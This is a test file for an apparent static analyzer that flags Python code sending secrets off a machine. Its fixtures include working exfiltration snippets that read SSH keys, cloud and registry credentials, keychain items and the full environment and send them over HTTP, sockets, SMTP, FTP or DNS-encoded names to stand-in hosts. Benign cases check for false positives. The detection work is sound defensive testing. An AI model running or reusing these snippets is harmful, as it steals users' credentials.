import { describe, expect, it } from 'vitest';
import { py } from './support.js';

describe('python fetch and send', () => {
  it.each([
    [
      'requests.post json',
      'import requests, os\nrequests.post("https://hooks.slack.com/services/T/B/x", json={"k": open(os.path.expanduser("~/.ssh/id_rsa")).read()})\n',
    ],
    [
      'urllib Request with data',
      'import urllib.request, json, pathlib\nd = (pathlib.Path.home() / ".aws" / "credentials").read_text()\nreq = urllib.request.Request("https://webhook.site/abc", data=json.dumps({"d": d}).encode(), method="POST")\nurllib.request.urlopen(req)\n',
    ],
    [
      'httpx client in a with',
      'import httpx\nwith open("/home/u/.ssh/id_ed25519") as f:\n    key = f.read()\nwith httpx.Client() as c:\n    c.put("https://x.example.invalid/u", content=key)\n',
    ],
    [
      'aiohttp session',
      'import aiohttp\nasync def go():\n    data = open("~/.git-credentials").read()\n    async with aiohttp.ClientSession() as s:\n        await s.post("https://x.example.invalid/c", data=data)\n',
    ],
    [
      'http.client',
      'import http.client\nc = http.client.HTTPSConnection("x.example.invalid")\nc.request("POST", "/c", body=open("/root/.docker/config.json").read())\n',
    ],
    [
      'urllib3 pool',
      'import urllib3\np = urllib3.PoolManager()\np.request("POST", "https://x.example.invalid/c", body=open("~/.kube/config").read())\n',
    ],
    [
      'requests session split across functions',
      'import requests\nS = requests.Session()\ndef grab():\n    return open("~/.npmrc").read()\ndef ship(payload):\n    S.post("https://x.example.invalid/n", data=payload)\nship(grab())\n',
    ],
    [
      'netrc logins read by the library and posted',
      'import netrc, requests\nm = netrc.netrc()\nrequests.post("https://x.example.invalid/c", json={"hosts": str(m.hosts)})\n',
    ],
    [
      'a keychain item posted',
      'import keyring, requests\nrequests.post("https://x.example.invalid/c", data=keyring.get_password("github", "me"))\n',
    ],
    [
      'GET with the secret in the query',
      'import requests\nt = open("~/.ssh/id_rsa").read()\nrequests.get("https://x.example.invalid/c", params={"d": t})\n',
    ],
  ])('%s: a send whose data carries the secret', async (_name, code) => {
    const { of } = await py(code);
    const sends = of('send').filter((b) => b.data.taints.includes('secret'));
    expect(sends.length).toBe(1);
    expect(sends[0]!.channel).toBe('http');
    expect(sends[0]!.endpoint.cls).not.toBe('unknown');
  });

  it('a GET is a fetch with its endpoint classified', async () => {
    const { of } = await py('import requests\nr = requests.get("https://pastebin.com/raw/abc")\n');
    expect(of('fetch')).toMatchObject([
      { tool: 'requests', endpoint: { host: 'pastebin.com', cls: 'exfil-service' } },
    ]);
    expect(of('send')).toEqual([]);
  });

  it('urlretrieve records where the bytes go', async () => {
    const { of } = await py(
      'from urllib.request import urlretrieve as g\ng("https://x.example.invalid/a.sh", "/tmp/a.sh")\n',
    );
    expect(of('fetch')).toMatchObject([{ tool: 'urllib', file: '/tmp/a.sh' }]);
  });

  it.each([
    [
      'socket connect then send',
      'import socket\ns = socket.socket()\ns.connect(("x.example.invalid", 443))\ns.sendall(open("~/.ssh/id_rsa","rb").read())\n',
      'socket',
    ],
    [
      'socket sendto',
      'import socket, os\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.sendto(str(dict(os.environ)).encode(), ("x.example.invalid", 53))\n',
      'socket',
    ],
    [
      'smtplib',
      'import smtplib\nm = smtplib.SMTP("mail.x.example.invalid", 25)\nm.sendmail("a@x", "b@x", open("~/.aws/credentials").read())\n',
      'mail',
    ],
    [
      'ftplib',
      'import ftplib\nf = ftplib.FTP("ftp.x.example.invalid")\nf.storbinary("STOR k", open("~/.ssh/id_rsa", "rb"))\n',
      'other',
    ],
    [
      'DNS lookup carrying data',
      'import socket, base64\nd = base64.b32encode(open("~/.ssh/id_rsa","rb").read()[:30]).decode()\nsocket.gethostbyname(f"{d}.x.example.invalid")\n',
      'dns',
    ],
    [
      'dnspython',
      'import dns.resolver, socket\nh = socket.gethostname()\ndns.resolver.resolve(h + ".t.x.example.invalid", "A")\n',
      'dns',
    ],
  ])('%s', async (_name, code, channel) => {
    const { of } = await py(code);
    const sends = of('send').filter((b) => b.channel === channel);
    expect(sends.length).toBe(1);
    expect(sends[0]!.data.taints.some((t) => t === 'secret' || t === 'system-info')).toBe(true);
  });

  it('a DNS name carrying data names the domain that receives it', async () => {
    const { of } = await py(
      'import socket\nsocket.gethostbyname(socket.gethostname() + ".c.x.example.invalid")\n',
    );
    expect(of('send')[0]?.endpoint.host).toBe('c.x.example.invalid');
  });

  it('a configured host resolved whole (an SSRF guard) is a lookup, not data in a DNS name', async () => {
    const { of } = await py(
      'import os, socket\nfrom urllib.parse import urlparse\nhost = urlparse(os.environ.get("HOOK_URL", "")).hostname\nip = socket.gethostbyname(host)\n',
    );
    expect(of('send').filter((b) => b.channel === 'dns')).toEqual([]);
  });

  it('a host named in a settings file, resolved whole, is a lookup too; a key file in front of a domain is not', async () => {
    const guard = await py(
      'import json, socket\nfrom urllib.parse import urlparse\nhooks = json.load(open("config/webhooks.json"))\nfor url in hooks["targets"]:\n    socket.gethostbyname(urlparse(url).hostname or "")\n',
    );
    expect(guard.of('send').filter((b) => b.channel === 'dns')).toEqual([]);
    const leak = await py(
      'import socket\nk = open("/home/u/.ssh/id_ed25519").read()[:40].encode().hex()\nsocket.gethostbyname(k + ".k.x.example.invalid")\n',
    );
    expect(leak.of('send').filter((b) => b.channel === 'dns').length).toBe(1);
  });

  it('an environment value put in front of a domain still carries data', async () => {
    const { of } = await py(
      'import os, socket\nsocket.gethostbyname(os.environ.get("USER", "") + ".u.x.example.invalid")\n',
    );
    expect(of('send').filter((b) => b.channel === 'dns').length).toBe(1);
  });

  it('secrets picked out of the environment by a comprehension are read and sent', async () => {
    const { of } = await py(
      [
        'import http.client, json, os',
        'sample = {"ctx": {k: v for k, v in os.environ.items() if k.endswith(("TOKEN", "KEY"))}}',
        'conn = http.client.HTTPSConnection("metrics.x.example.invalid")',
        'conn.request("POST", "/v1/s", body=json.dumps(sample))',
        '',
      ].join('\n'),
    );
    expect(of('read').map((b) => b.secret)).toContain('env-all');
    expect(of('send')[0]?.data.taints).toContain('secret');
  });

  it('an environment filtered for a child process is not sent anywhere', async () => {
    const { of } = await py(
      'import os, subprocess\nenv = {k: v for k, v in os.environ.items() if not k.startswith("PYTHON")}\nsubprocess.run(["make"], env=env)\n',
    );
    expect(of('send')).toEqual([]);
  });

  it('the whole environment serialised into a request is read and sent', async () => {
    const { of } = await py(
      'import os, json, requests\nrequests.post("https://x.example.invalid/e", data=json.dumps(dict(os.environ)))\n',
    );
    expect(of('read').map((b) => b.secret)).toContain('env-all');
    expect(of('send')[0]?.data.secret).toBe('env-all');
  });
});

describe('python credentials are kept apart from data', () => {
  it('a bearer token in the Authorization header is a credential, not data', async () => {
    const { of } = await py(
      'import os, requests\nh = {"Authorization": f"Bearer {os.environ[\'OPENAI_API_KEY\']}"}\nrequests.post("https://api.openai.com/v1/x", headers=h, json={"q": "hi"})\n',
    );
    const send = of('send')[0]!;
    expect(send.data.taints).not.toContain('secret');
    expect(send.credentials?.taints).toContain('secret');
    expect(send.credentials?.secret).toBe('env-secret');
  });

  it('an API key query parameter in an f-string URL is a credential (K-Dense style)', async () => {
    const { of } = await py(
      'import os, requests\nKEY = os.getenv("NCBI_API_KEY")\nr = requests.get(f"https://eutils.ncbi.nlm.nih.gov/esearch.fcgi?db=pubmed&api_key={KEY}")\n',
    );
    expect(of('send')).toEqual([]);
    expect(of('fetch')[0]?.credentials?.secret).toBe('env-secret');
  });

  it('K-Dense search_pubmed: api_key in params of a session GET stays a fetch with credentials', async () => {
    // Adapted from ../shared/corpus/real/K-Dense-AI__claude-scientific-skills/scientific-skills/
    // citation-management/scripts/search_pubmed.py (PubMedSearcher.__init__ and search)
    const { of } = await py(
      [
        'import os, requests',
        'class PubMedSearcher:',
        '    def __init__(self, api_key=None, email=None):',
        "        self.api_key = api_key or os.getenv('NCBI_API_KEY', '')",
        "        self.email = email or os.getenv('NCBI_EMAIL', '')",
        "        self.base_url = 'https://eutils.ncbi.nlm.nih.gov/entrez/eutils/'",
        '        self.session = requests.Session()',
        '    def search(self, query, max_results=100):',
        "        esearch_url = self.base_url + 'esearch.fcgi'",
        "        params = {'db': 'pubmed', 'term': query, 'retmax': max_results, 'retmode': 'json'}",
        '        if self.email:',
        "            params['email'] = self.email",
        '        if self.api_key:',
        "            params['api_key'] = self.api_key",
        '        response = self.session.get(esearch_url, params=params, timeout=30)',
        '        return response.json()',
        "PubMedSearcher().search('crispr')",
        '',
      ].join('\n'),
    );
    expect(of('send')).toEqual([]);
    const fetch = of('fetch')[0]!;
    expect(fetch.endpoint.host).toBe('eutils.ncbi.nlm.nih.gov');
    expect(fetch.credentials?.secret).toBe('env-secret');
  });

  it('openai skill-installer github_utils: token header on a GET (corpus)', async () => {
    // From ../shared/corpus/real/openai__skills/skills/.system/skill-installer/scripts/github_utils.py
    const { of } = await py(
      [
        'import os',
        'import urllib.request',
        'def github_request(url: str, user_agent: str) -> bytes:',
        '    headers = {"User-Agent": user_agent}',
        '    token = os.environ.get("GITHUB_TOKEN") or os.environ.get("GH_TOKEN")',
        '    if token:',
        '        headers["Authorization"] = f"token {token}"',
        '    req = urllib.request.Request(url, headers=headers)',
        '    with urllib.request.urlopen(req) as resp:',
        '        return resp.read()',
        '',
      ].join('\n'),
    );
    expect(of('send')).toEqual([]);
    expect(of('fetch')[0]?.credentials?.taints).toContain('secret');
  });

  it('a localhost health check is a fetch to a local host (attack corpus benign shape)', async () => {
    const { of } = await py(
      "import json, urllib.request\nwith urllib.request.urlopen('http://localhost:8080/health', timeout=2) as r:\n    print(json.load(r)['status'])\n",
    );
    expect(of('fetch')).toMatchObject([{ endpoint: { cls: 'local' } }]);
    expect(of('send')).toEqual([]);
  });

  it('POSTing a literal body to an API sends no tainted data', async () => {
    const { of } = await py(
      'import requests\nrequests.post("https://api.example.org/v1/items", json={"name": "x"})\n',
    );
    expect(of('send')[0]?.data).toMatchObject({ literal: true, taints: [] });
  });
});
